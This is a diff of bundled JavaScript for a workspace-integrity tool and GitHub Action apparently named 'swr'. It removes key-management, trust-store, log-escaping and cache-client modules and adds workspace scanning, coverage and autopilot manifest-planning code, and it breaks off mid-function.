     return `      quarantine: kept ${q.bytes} bytes in ${q.copied}${pruned}\n`;
 }
 
-;// CONCATENATED MODULE: ./src/core/sign/keys.ts
+;// CONCATENATED MODULE: ./src/core/author/scan.ts
 /**
- * Key material on this machine, in the private state directory only (never the workspace):
- * `keys/hmac.key` and `keys/mldsa87.seed`, 64 hex digits each, mode 0600. A key file that others
- * can read is refused rather than used.
+ * What every authoring scan shares: the names no scan enters (VCS metadata, swr's own directory),
+ * sorted directory listings that never throw, a bound on how much of a huge workspace one scan
+ * may look at, and ignore rules that name exactly one path.
  */
 
-
-
-
-
-
-
-const HMAC_KEY_FILE = 'hmac.key';
-const IDENTITY_FILE = 'mldsa87.seed';
-/** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
-const SYNC_KEY_FILE = 'sync.seed';
-function keyPath(stateDir, name) {
-    return external_node_path_default().join(stateDir, 'keys', name);
+/** Version-control metadata: changes on every fetch, restored by the VCS, never worth an entry. */
+const scan_VCS_DIRS = new Set(['.git', '.hg', '.svn']);
+/** swr's own directory beside a manifest. */
+const scan_SWR_DIR = '.swr';
+/** A $HOME workspace can hold millions of files: one scan looks at no more than this many. */
+const MAX_SCAN = 200_000;
+function scan_isMetaName(name) {
+    return scan_VCS_DIRS.has(name) || name === scan_SWR_DIR;
 }
-/** The contents of a private key file, or undefined when it does not exist. */
-function readPrivate(file) {
-    let st;
+/** Directory entries in the tree walk's order (JavaScript string order); [] when unreadable. */
+function scan_listDir(abs) {
     try {
-        st = external_node_fs_default().lstatSync(file);
-    }
-    catch (err) {
-        if (errors_errnoCode(err) === 'ENOENT')
-            return undefined;
-        throw err;
-    }
-    if (!st.isFile())
-        throw new errors_SwrError(`${file}: key file is not a regular file`, errors_EXIT.UNREPAIRABLE);
-    if ((st.mode & 0o077) !== 0) {
-        const mode = (st.mode & 0o777).toString(8);
-        throw new errors_SwrError(`${file}: key file is readable by others (mode 0${mode}); run chmod 600 on it`, errors_EXIT.UNREPAIRABLE);
-    }
-    return external_node_fs_default().readFileSync(file, 'utf8');
-}
-/** SWR_HMAC_KEY (passed in by the shell) wins over the key file. */
-function loadHmacKey(stateDir, envValue) {
-    if (envValue !== undefined && envValue !== '') {
-        const key = parseHmacKey(envValue);
-        if (!key)
-            throw new errors_SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', errors_EXIT.BAD_MANIFEST);
-        return { key, source: 'env' };
-    }
-    const text = readPrivate(keyPath(stateDir, HMAC_KEY_FILE));
-    if (text === undefined)
-        return undefined;
-    const key = parseHmacKey(text);
-    if (!key)
-        throw new errors_SwrError(`${keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
-    return { key, source: 'file' };
-}
-function loadIdentitySeed(stateDir) {
-    const text = readPrivate(keyPath(stateDir, IDENTITY_FILE));
-    if (text === undefined)
-        return undefined;
-    if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
-    return Buffer.from(text.trim(), 'hex');
-}
-/** Create a new random key file; refuses to replace an existing one. */
-function createKeyFile(stateDir, name) {
-    ensurePrivateDir(stateDir, 'keys');
-    const bytes = randomBytes(32);
-    try {
-        writeFileAtomic(keyPath(stateDir, name), bytes.toString('hex') + '\n', {
-            mode: 0o600,
-            exclusive: true
-        });
-    }
-    catch (err) {
-        if (errnoCode(err) === 'EEXIST') {
-            throw new SwrError(`${keyPath(stateDir, name)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
-        }
-        throw err;
-    }
-    return bytes;
-}
-/** The sync key's seed: SWR_SYNC_KEY (64 hex digits) wins over the key file. */
-function loadSyncSeed(stateDir, envValue) {
-    if (envValue !== undefined && envValue !== '') {
-        if (!/^[0-9a-fA-F]{64}$/.test(envValue.trim()))
-            throw new SwrError('SWR_SYNC_KEY must be 64 hex digits', EXIT.BAD_MANIFEST);
-        return Buffer.from(envValue.trim(), 'hex');
-    }
-    const text = readPrivate(keyPath(stateDir, SYNC_KEY_FILE));
-    if (text === undefined)
-        return undefined;
-    if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
-    return Buffer.from(text.trim(), 'hex');
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/trust.ts
-/**
- * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
- * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
- * action input, never from files of the checked-out tree.
- */
-
-
-
-
-
-
-function storePath(stateDir) {
-    return external_node_path_default().join(stateDir, 'trust.json');
-}
-function readTrustStore(stateDir) {
-    let text;
-    try {
-        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
+        return fs.readdirSync(abs).sort();
     }
     catch {
         return [];
     }
+}
+function scan_lstatOf(abs) {
     try {
-        const v = JSON.parse(text);
-        if (v.v !== 1 || !Array.isArray(v.signers))
-            throw new Error('shape');
-        return v.signers.filter(s => mldsa_normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
+        return fs.lstatSync(abs);
     }
     catch {
-        throw new errors_SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, errors_EXIT.UNREPAIRABLE);
+        return undefined;
     }
 }
-function writeTrustStore(stateDir, signers) {
-    ensurePrivateDir(stateDir);
-    writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
-        mode: 0o600
-    });
+function scan_isExecutable(st) {
+    return (st.mode & 0o111) !== 0;
 }
-function addTrusted(stateDir, fp, name, now) {
-    const norm = normalizeFingerprint(fp);
-    if (!norm)
-        throw new SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, EXIT.BAD_MANIFEST);
-    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
-    const signer = { fingerprint: norm, name, added: now.toISOString() };
-    writeTrustStore(stateDir, [...signers, signer]);
-    return signer;
-}
-/** Remove by fingerprint or name; returns what was removed. */
-function removeTrusted(stateDir, what) {
-    const norm = normalizeFingerprint(what);
-    const signers = readTrustStore(stateDir);
-    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
-    if (removed.length === 0)
-        throw new SwrError(`no trusted signer matches ${what}`, EXIT.BAD_MANIFEST);
-    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
-    return removed;
+function scan_scanBudget(limit = MAX_SCAN) {
+    let seen = 0;
+    return {
+        take: () => ++seen <= limit,
+        get exhausted() {
+            return seen > limit;
+        }
+    };
 }
 /**
- * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
- * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
- * or after "#", is a comment.
+ * An ignore rule matching exactly `inner` (a path relative to the tree): anchored with a leading
+ * slash, because a bare name would match at any depth, and with glob characters escaped.
  */
-function parseTrustedSigners(text) {
-    const out = new Set();
-    for (const raw of text.split(/[\n,]/)) {
-        const line = raw.replace(/#.*/, '').trim();
-        if (!line)
-            continue;
-        const fp = mldsa_normalizeFingerprint(line);
-        if (fp) {
-            out.add(fp);
-            continue;
+function scan_literalRule(inner) {
+    return '/' + inner.replace(/[\\*?[\]{}()!+@]/g, c => `\\${c}`);
+}
+/** `rel` joined below `dir` in manifest spelling ("" is the workspace root). */
+function scan_joinRel(dir, name) {
+    return dir ? `${dir}/${name}` : name;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/coverage.ts
+/**
+ * Which workspace paths a manifest already tracks: each entry's own path, and everything inside a
+ * tracked tree that the tree's ignore rules do not leave out (read exactly as the tree walk reads
+ * them, so "tracked" here means "judged by some entry's check").
+ */
+
+
+
+/** `rel` relative to the tree at `root`, or undefined when it is not strictly inside. */
+function innerOf(root, rel) {
+    if (root === '.')
+        return rel === '.' ? undefined : rel;
+    return rel.startsWith(root + '/') ? rel.slice(root.length + 1) : undefined;
+}
+/** The walk skips a path when any of its prefixes is ignored. */
+function ignoredInside(t, inner) {
+    const segs = inner.split('/');
+    return segs.some((name, i) => t.ignored(segs.slice(0, i + 1).join('/'), name, i < segs.length - 1));
+}
+function coverage_coverageOf(entries) {
+    const exact = new Map(entries.map(e => [e.path, e.id]));
+    const trees = entries.flatMap(e => e.kind === 'tree'
+        ? [
+            {
+                id: e.id,
+                path: e.path,
+                ignored: ignoreMatcher(e.ignore),
+                custom: e.ignore.some(r => !VOLATILE_DIRS.has(r) && !isMetaName(r))
+            }
+        ]
+        : []);
+    const covering = (rel) => trees.filter(t => {
+        const inner = innerOf(t.path, rel);
+        return inner !== undefined && !ignoredInside(t, inner);
+    });
+    return {
+        trackedBy(rel) {
+            const id = exact.get(rel);
+            if (id !== undefined)
+                return { id, exact: true };
+            const tree = covering(rel)[0];
+            return tree ? { id: tree.id, exact: false } : undefined;
+        },
+        trackedBelow(rel) {
+            return entries.flatMap(e => {
+                const inner = innerOf(rel, e.path);
+                return inner === undefined ? [] : [inner];
+            });
+        },
+        mayHideUntracked(rel) {
+            const own = trees.find(t => t.path === rel);
+            return [...(own ? [own] : []), ...covering(rel)].some(t => t.custom);
         }
-        const token = line.split(/\s+/)[0] ?? '';
-        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
-        if (key && key.length === PUBLIC_KEY_BYTES)
-            out.add(fingerprint(key));
-        else
-            throw new errors_SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, errors_EXIT.BAD_MANIFEST);
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/audit.ts
+
+
+
+
+
+function auditWorkspace(workspace, entries, exclude) {
+    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
+    visit(scan, workspace, '');
+    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
+    return { rows: scan.rows, truncated: scan.budget.exhausted };
+}
+function skipped(scan, name, abs) {
+    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
+}
+function visit(scan, absDir, relDir) {
+    for (const name of listDir(absDir)) {
+        if (!scan.budget.take())
+            return;
+        const abs = path.join(absDir, name);
+        if (skipped(scan, name, abs))
+            continue;
+        const rel = joinRel(relDir, name);
+        const st = lstatOf(abs);
+        if (!st)
+            continue;
+        if (scan.cov.trackedBy(rel)) {
+            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
+                visit(scan, abs, rel);
+        }
+        else if (st.isDirectory()) {
+            if (scan.cov.trackedBelow(rel).length > 0)
+                visit(scan, abs, rel);
+            else
+                scan.rows.push(...treeRows(scan, abs, rel));
+        }
+        else {
+            const row = leafRow(rel, st);
+            if (row)
+                scan.rows.push(row);
+        }
     }
+}
+function leafRow(rel, st) {
+    const row = (kind, bytes) => ({
+        kind,
+        path: rel,
+        bytes,
+        files: 1,
+        ignore: []
+    });
+    if (st.isSymbolicLink())
+        return row('link', 0);
+    if (!st.isFile())
+        return undefined;
+    if (st.size >= BLOB_THRESHOLD)
+        return row('blob', st.size);
+    return isExecutable(st) ? row('file', st.size) : undefined;
+}
+/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
+function treeRows(scan, absRoot, rel) {
+    const blobs = [];
+    const names = new Set();
+    let files = 0;
+    let bytes = 0;
+    const walk = (absDir, inner) => {
+        for (const name of listDir(absDir)) {
+            if (!scan.budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (skipped(scan, name, abs)) {
+                if (!scan.exclude.has(abs))
+                    names.add(name);
+                continue;
+            }
+            const st = lstatOf(abs);
+            const innerRel = joinRel(inner, name);
+            if (!st)
+                continue;
+            if (st.isDirectory())
+                walk(abs, innerRel);
+            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
+                blobs.push({
+                    kind: 'blob',
+                    path: `${rel}/${innerRel}`,
+                    bytes: st.size,
+                    files: 1,
+                    ignore: []
+                });
+            }
+            else {
+                files++;
+                bytes += st.isFile() ? st.size : 0;
+            }
+        }
+    };
+    walk(absRoot, '');
+    const ignore = [
+        ...[...names].sort(),
+        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
+    ];
+    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
+/**
+ * `autopilot`: bring a manifest up to date with init's rules without touching what is already
+ * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
+ * markers found in it; executable scripts at the top level become `file` entries; large files
+ * anywhere outside volatile directories become `blob` entries. Volatile directories
+ * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
+ * again adds nothing: everything it would add is then tracked.
+ */
+
+
+
+
+
+
+/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
+const TREE_MARKERS = (/* unused pure expression or super */ null && (PROJECT_MARKERS));
+const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
+function planAutopilot(workspace, entries, exclude) {
+    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
+    const blobs = untrackedBlobs(ctx);
+    const trees = [];
+    const scripts = [];
+    const skipped = [];
+    for (const name of listDir(workspace)) {
+        const abs = path.join(workspace, name);
+        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
+            continue;
+        if (ctx.cov.trackedBy(name))
+            continue;
+        const st = lstatOf(abs);
+        if (st?.isDirectory() && !name.startsWith('.')) {
+            const planned = planTree(ctx, name, blobs);
+            if (planned && 'why' in planned)
+                skipped.push({ path: name, why: planned.why });
+            else if (planned)
+                trees.push(planned);
+        }
+        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
+            scripts.push({ path: name, kind: 'file' });
+        }
+    }
+    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
+    return {
+        requests: [...trees, ...scripts, ...blobRequests],
+        skipped,
+        truncated: ctx.budget.exhausted
+    };
+}
+/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
+function untrackedBlobs(ctx) {
+    const out = [];
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!ctx.budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
+                out.push(rel);
+        }
+    };
+    walk(ctx.workspace, '');
     return out;
 }
-
-;// CONCATENATED MODULE: ./src/core/sign/policy.ts
 /**
- * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
- * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
+ * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
+ * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
  */
-
-
-
-
-
-
-
-function parseRequirement(v) {
-    if (!REQUIREMENTS.includes(v)) {
-        throw new UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
-    }
-    return v;
-}
-/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
-function manifestPathInWorkspace(m) {
-    return paths_isInside(m.workspace, m.file)
-        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
-        : undefined;
-}
-function makePolicy(m, src) {
-    const trusted = new Set();
-    if (src.local)
-        for (const s of readTrustStore(src.stateDir))
-            trusted.add(s.fingerprint);
-    if (src.ownFingerprint)
-        trusted.add(src.ownFingerprint);
-    for (const t of src.trustedSigners)
-        for (const fp of parseTrustedSigners(t))
-            trusted.add(fp);
-    const hmac = src.local ? loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
-    return {
-        require: parseRequirement(src.require),
-        hmacKey: hmac?.key ?? (src.hmacKeyText ? loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
-        trusted,
-        threshold: src.threshold,
-        minVersion: src.minVersion,
-        remembered: src.local ? recall(src.stateDir, m.file, m.body.scope) : undefined,
-        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
-        now: src.now,
-        approveDigest: src.approveDigest
-    };
-}
-
-;// CONCATENATED MODULE: ./src/version.ts
-/** The swr version; a test keeps it equal to package.json's. */
-const VERSION = '0.1.0';
-
-;// CONCATENATED MODULE: ./src/action/log.ts
-/**
- * The only way the Action writes to its log. The runner reads every stdout line as a possible
- * workflow command (`::warning::`, `::add-mask::`, `::stop-commands::`, `::save-state`), so a line
- * swr prints must never be one that someone else authored: every message is passed through
- * `escapeText` (no CR, LF or other control survives), a line can never start with `::`, and
- * recipe output is printed only inside a `::stop-commands::` window with a random token. The lint
- * configuration forbids `core.info` and friends, `console` and `process.stdout` elsewhere in
- * src/action, so a raw print cannot come back unnoticed.
- */
-
-
-
-
-/** Longest single log line swr prints; a hostile 10 MB name must not become a 10 MB line. */
-const LINE_MAX = 4096;
-/** One log line: escaped, bounded, and never read by the runner as a command. */
-function safeLine(text) {
-    const line = escape_escapeText(text, { max: LINE_MAX });
-    // The runner trims leading whitespace before looking for `::`.
-    return /^\s*::/.test(line) ? line.replace('::', '\\x3a:') : line;
-}
-/**
- * A command's message: each of swr's own lines escaped; the runner gets them as one command.
- * `%` is left to @actions/core, which percent-encodes command data and properties itself
- * (encoding it here too would show `%25` where the name has `%`).
- */
-function message(text) {
-    return text
-        .split('\n')
-        .map(l => safeLine(l))
-        .join('\n');
-}
-function props(p) {
-    if (!p)
-        return undefined;
-    return {
-        ...(p.title !== undefined ? { title: safeLine(p.title) } : {}),
-        ...(p.file !== undefined ? { file: safeLine(p.file) } : {}),
-        ...(p.startLine !== undefined ? { startLine: p.startLine } : {})
-    };
-}
-/** One line: a newline in `text` is shown as `\n`, never printed. */
-function info(text) {
-    core/* info */.pq(safeLine(text));
-}
-/** Text from a report renderer (which escapes every untrusted string): one log line per line. */
-function rendered(text) {
-    for (const l of text.replace(/\n$/, '').split('\n'))
-        core/* info */.pq(safeLine(l));
-}
-function warning(text, p) {
-    core/* warning */.$e(message(text), props(p));
-}
-function error(text, p) {
-    core/* error */.z3(message(text), props(p));
-}
-function notice(text, p) {
-    core/* notice */.lm(message(text), props(p));
-}
-/** Shown only when the run has step debugging on (a stack for a bug report). */
-function debug(text) {
-    core/* debug */.Yz(message(text));
-}
-function setFailed(text) {
-    core/* setFailed */.C1(message(text));
-}
-function startGroup(name) {
-    core/* startGroup */.Oh(safeLine(name));
-}
-function endGroup() {
-    core/* endGroup */.N4();
-}
-/** Append Markdown built by the report renderers (which escape every untrusted string). */
-async function writeSummary(markdown) {
-    await core/* summary */.z.addRaw(markdown, true).write();
-}
-/**
- * Recipe output must not act as workflow commands: it is printed inside a stop-commands window
- * with a random token, opened before the first recipe line and closed before swr prints anything
- * of its own (groups, errors, warnings), so swr's own commands still work.
- */
-function makeShield() {
-    let token;
-    return {
-        recipeLine(line) {
-            if (!token) {
-                token = (0,external_node_crypto_.randomBytes)(16).toString('hex');
-                process.stdout.write(`::stop-commands::${token}${(external_node_os_default()).EOL}`);
-            }
-            // A lone CR is a line break to some readers: keep each recipe line one line.
-            process.stdout.write(line.replace(/\r/g, '\\r') + (external_node_os_default()).EOL);
-        },
-        own() {
-            if (token)
-                process.stdout.write(`::${token}::${(external_node_os_default()).EOL}`);
-            token = undefined;
-        }
-    };
-}
-
-;// CONCATENATED MODULE: ./src/action/constants.ts
-/** Every input, output and saved-state name of the Action, in one place. */
-const Inputs = {
-    Command: 'command',
-    Manifest: 'manifest',
-    Workspace: 'workspace',
-    Only: 'only',
-    Deep: 'deep',
-    Jobs: 'jobs',
-    Timeout: 'timeout',
-    HmacKey: 'hmac-key',
-    TrustedSigners: 'trusted-signers',
-    Require: 'require',
-    MinVersion: 'min-version',
-    ApproveDigest: 'approve-digest',
-    FailOn: 'fail-on',
-    Annotations: 'annotations',
-    Summary: 'summary',
-    Sarif: 'sarif',
-    CacheLookup: 'cache-lookup',
-    CanaryAt: 'canary-at',
-    CanaryVolatile: 'canary-volatile',
-    CanaryLargeBytes: 'canary-large-bytes',
-    CanaryHome: 'canary-home',
-    CanaryKey: 'canary-key',
-    Record: 'record'
-};
-/** Names of the state the main step hands to the post step. */
-const State = {
-    WriteBack: 'swr-write-back'
-};
-const Outputs = {
-    Status: 'status',
-    Healthy: 'healthy',
-    Damaged: 'damaged',
-    Repaired: 'repaired',
-    WipeSignature: 'wipe-signature',
-    Report: 'report',
-    ReportPath: 'report-path',
-    ManifestDigest: 'manifest-digest',
-    ExitCode: 'exit-code',
-    Stats: 'stats',
-    Canary: 'canary'
-};
-const COMMANDS = [
-    'check',
-    'doctor',
-    'restore',
-    'verify',
-    'canary-plant',
-    'canary-read',
-    'stats'
-];
-const SURVIVAL_COMMANDS = ['canary-plant', 'canary-read', 'stats'];
-const FAIL_ON = ['damage', 'unrepairable', 'never'];
-const constants_STATUSES = (/* unused pure expression or super */ null && ([
-    'healthy',
-    'repaired',
-    'damaged',
-    'unrepairable',
-    'refused',
-    'invalid',
-    'error'
-]));
-
-;// CONCATENATED MODULE: ./src/adapters/cache-service.ts
-
-
-const SERVICE = 'github.actions.results.api.v1.CacheService';
-const VERSION_SALT = '1.0';
-/** The client's names for the compressions it writes (zstd is always without --long now). */
-const METHODS = [
-    ['zstd-without-long', 'zstd'],
-    ['gzip', 'gzip']
-];
-/** The cache version @actions/cache computes for `paths` saved with `method` (not on Windows). */
-function cacheVersion(paths, method) {
-    return (0,external_node_crypto_.createHash)('sha256')
-        .update([...paths, method, VERSION_SALT].join('|'))
-        .digest('hex');
-}
-/** How the archive names `abs`: relative to the job's workspace (the client's tar -C), POSIX. */
-function archivePrefix(abs, env) {
-    const ws = env.GITHUB_WORKSPACE || process.cwd();
-    return external_node_path_default().relative(ws, external_node_path_default().resolve(abs)).split((external_node_path_default()).sep).join('/') || '.';
-}
-/** The path spellings whose versions are asked for: absolute, then workspace-relative. */
-function pathForms(abs, env) {
-    const forms = [external_node_path_default().resolve(abs), archivePrefix(abs, env)];
-    return [...new Set(forms)];
-}
-function isGhes(env) {
-    const host = new URL(env.GITHUB_SERVER_URL || 'https://github.com').hostname.toUpperCase();
-    return !(host === 'GITHUB.COM' || host.endsWith('.GHE.COM') || host.endsWith('.LOCALHOST'));
-}
-/** Loaded on first use: most CLI commands never talk to the cache, and the client is large. */
-let httpModule;
-async function newHttpClient(...args) {
-    httpModule ??= Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 4942));
-    return new (await httpModule).HttpClient(...args);
-}
-class CacheService {
-    env;
-    httpClient;
-    http() {
-        this.httpClient ??= newHttpClient('swr', [], { allowRetries: true, maxRetries: 2 });
-        return this.httpClient;
-    }
-    constructor(env) {
-        this.env = env;
-    }
-    get v2() {
-        return !isGhes(this.env) && Boolean(this.env.ACTIONS_CACHE_SERVICE_V2);
-    }
-    auth() {
-        return { Authorization: `Bearer ${this.env.ACTIONS_RUNTIME_TOKEN ?? ''}` };
-    }
-    /** One lookup of `keys` under one version; undefined on a miss. Throws when unreachable. */
-    async ask(key, restoreKeys, version) {
-        if (this.v2) {
-            const base = this.env.ACTIONS_RESULTS_URL ?? '';
-            const url = new URL(`/twirp/${SERVICE}/GetCacheEntryDownloadURL`, base).href;
-            const res = await (await this.http()).post(url, JSON.stringify({ key, restore_keys: restoreKeys, version }), {
-                ...this.auth(),
-                'Content-Type': 'application/json',
-                Accept: 'application/json'
-            });
-            const body = await res.readBody();
-            if (res.message.statusCode !== 200)
-                throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
-            const r = JSON.parse(body);
-            return r.ok && r.signed_download_url && r.matched_key
-                ? { matchedKey: r.matched_key, url: r.signed_download_url }
-                : undefined;
-        }
-        const base = this.env.ACTIONS_CACHE_URL || this.env.ACTIONS_RESULTS_URL || '';
-        const q = `keys=${encodeURIComponent([key, ...restoreKeys].join(','))}&version=${version}`;
-        const res = await (await this.http()).get(new URL(`_apis/artifactcache/cache?${q}`, base).href, {
-            ...this.auth(),
-            Accept: 'application/json;api-version=6.0-preview.1'
-        });
-        const body = await res.readBody();
-        if (res.message.statusCode === 204)
-            return undefined;
-        if (res.message.statusCode !== 200)
-            throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
-        const r = JSON.parse(body);
-        return r.cacheKey && r.archiveLocation
-            ? { matchedKey: r.cacheKey, url: r.archiveLocation }
-            : undefined;
-    }
-    /** The newest archive for `key` (or a restore-keys prefix) under any spelling of `abs`. */
-    async find(abs, key, restoreKeys) {
-        const prefix = archivePrefix(abs, this.env);
-        for (const [method, compression] of METHODS) {
-            for (const form of pathForms(abs, this.env)) {
-                const found = await this.ask(key, restoreKeys, cacheVersion([form], method));
-                if (!found)
-                    continue;
-                return {
-                    matchedKey: found.matchedKey,
-                    exact: found.matchedKey === key,
-                    compression,
-                    prefix,
-                    open: () => this.download(found.url)
-                };
-            }
-        }
-        return undefined;
-    }
-    async download(url) {
-        // A signed URL: no token sent to storage, and the URL itself never printed.
-        const res = await (await newHttpClient('swr')).get(url);
-        const status = res.message.statusCode ?? 0;
-        if (status !== 200) {
-            res.message.resume();
-            throw new Error(`the archive download answered ${status}`);
-        }
-        return res.message;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/adapters/actions-cache.ts
-/**
- * The real Actions cache behind the engine's CacheClient port, for the Action and for the CLI on a
- * runner. Restores never go through @actions/cache's restoreCache (it extracts with `tar -P` into
- * the workspace): cache-service.ts finds and streams the archive and the engine unpacks it. The
- * client is loaded only to save and to look up, with a private temp directory when RUNNER_TEMP is
- * unset and its workflow commands kept off a terminal.
- */
-
-
-
-
-/** The cache service is reachable from this process (v2 results service, or the v1 cache URL). */
-function cacheServiceAvailable(env) {
-    return Boolean(env.ACTIONS_RUNTIME_TOKEN && (env.ACTIONS_RESULTS_URL || env.ACTIONS_CACHE_URL));
-}
-/** Saves are off in read-only cache mode (ACTIONS_CACHE_MODE=read, or none). */
-function cacheReadOnly(env) {
-    return env.ACTIONS_CACHE_MODE === 'read' || env.ACTIONS_CACHE_MODE === 'none';
-}
-/** The same client, calling `before` ahead of every request (the Action closes its log shield). */
-function withBefore(client, before) {
-    return {
-        find: (abs, key, restoreKeys) => (before(), client.find(abs, key, restoreKeys)),
-        lookup: (abs, key) => (before(), client.lookup(abs, key)),
-        save: (abs, key) => (before(), client.save(abs, key))
-    };
-}
-/** A workflow command's message as written (%25, %0D, %0A decoded), on one line. */
-function unescapeCommand(msg) {
-    return msg
-        .replace(/%0D|%0A/gi, ' ')
-        .replace(/%25/g, '%')
-        .trim();
-}
-let actions_cache_loaded;
-async function client() {
-    actions_cache_loaded ??= await __nccwpck_require__.e(/* import() */ 641).then(__nccwpck_require__.bind(__nccwpck_require__, 2641));
-    return actions_cache_loaded;
-}
-function actionsCacheClient(opts) {
-    // Absolute paths: the client resolves relative ones against the process's cwd but archives them
-    // relative to GITHUB_WORKSPACE, and the cache version hashes the path strings as given.
-    const spell = (abs) => external_node_path_default().resolve(abs);
-    const onRunner = opts.env.GITHUB_ACTIONS === 'true';
-    const quietly = async (fn) => {
-        // The client reads RUNNER_TEMP from process.env and falls back to /home/actions/temp.
-        const temp = process.env.RUNNER_TEMP
-            ? undefined
-            : external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-cache-'));
-        if (temp)
-            process.env.RUNNER_TEMP = temp;
-        try {
-            return await muted(fn);
-        }
-        finally {
-            if (temp) {
-                delete process.env.RUNNER_TEMP;
-                external_node_fs_default().rmSync(temp, { recursive: true, force: true });
-            }
-        }
-    };
-    const muted = async (fn) => {
-        if (!opts.logToStderr)
-            return fn();
-        const write = process.stdout.write.bind(process.stdout);
-        const stderrWrite = process.stderr.write.bind(process.stderr);
-        // The client's debug lines only matter when the runner asks for them (RUNNER_DEBUG=1).
-        const debug = opts.env.RUNNER_DEBUG === '1';
-        process.stdout.write = ((chunk) => {
-            const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
-            if (!onRunner) {
-                // A terminal gets swr's own line for what the client warns about, no workflow commands.
-                for (const m of text.matchAll(/^::(?:warning|error)[^:]*::(.*)$/gm))
-                    opts.onNote?.(`cache: ${unescapeCommand(m[1] ?? '')}`);
-                return true;
-            }
-            const kept = debug
-                ? text
-                : text
-                    .split(/(?<=\n)/)
-                    .filter(l => !l.startsWith('::debug::'))
-                    .join('');
-            return kept ? stderrWrite(kept) : true;
-        });
-        try {
-            return await fn();
-        }
-        finally {
-            process.stdout.write = write;
-        }
-    };
-    const service = new CacheService(opts.env);
-    const note = (what, err) => opts.onNote?.(`cache ${what}: ${err instanceof Error ? err.message : String(err)}`);
-    return {
-        async find(abs, key, restoreKeys) {
-            try {
-                return await service.find(abs, key, restoreKeys);
-            }
-            catch (err) {
-                note(`restore of ${key} failed`, err);
-                return undefined;
-            }
-        },
-        async lookup(abs, key) {
-            try {
-                const cache = await client();
-                return ((await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }))) ===
-                    key);
-            }
-            catch (err) {
-                note(`lookup of ${key} failed`, err);
-                return false;
-            }
-        },
-        async save(abs, key) {
-            try {
-                const cache = await client();
-                // The client reports "already exists" and "unreachable" alike (-1): ask first.
-                const existing = await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }));
-                if (existing === key)
-                    return 'exists';
